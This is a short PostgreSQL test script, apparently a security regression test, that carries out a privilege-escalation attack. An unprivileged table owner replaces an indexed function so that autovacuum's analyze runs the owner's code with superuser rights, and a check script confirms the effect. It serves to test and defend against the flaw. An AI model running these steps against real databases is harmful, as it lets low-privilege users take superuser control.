-- attack: superuser by autovacuum
-- attacker: tabowner, a role without any right in the engine that owns a watched partitioned table
-- must not happen: the function behind the attacker's cast runs with the rights of the autovacuum worker, a superuser's
\i :attack_lib
\ir recipes/moved_row.sql
ALTER SYSTEM SET autovacuum_naptime = '1s';
SELECT pg_reload_conf();
SET SESSION AUTHORIZATION tabowner;
CREATE TABLE tabowner.v (a int) WITH (autovacuum_analyze_threshold = 1, autovacuum_analyze_scale_factor = 0);
CREATE INDEX ON tabowner.v (tabowner.leave(a));
INSERT INTO tabowner.v SELECT generate_series(1, 1000);
CREATE OR REPLACE FUNCTION tabowner.leave(int) RETURNS int LANGUAGE plpgsql VOLATILE AS
    $$ BEGIN UPDATE tabowner.p SET k = 2 WHERE k = 1; RETURN $1; END $$;
RESET SESSION AUTHORIZATION;
-- the end of a session reports its counters, by which autovacuum chooses its tables
\c attack postgres
SELECT attack.wait_for('SELECT count(*) = 0 FROM tabowner.p', 60);
ALTER SYSTEM RESET autovacuum_naptime;
SELECT pg_reload_conf();
\ir recipes/moved_row_check.sql
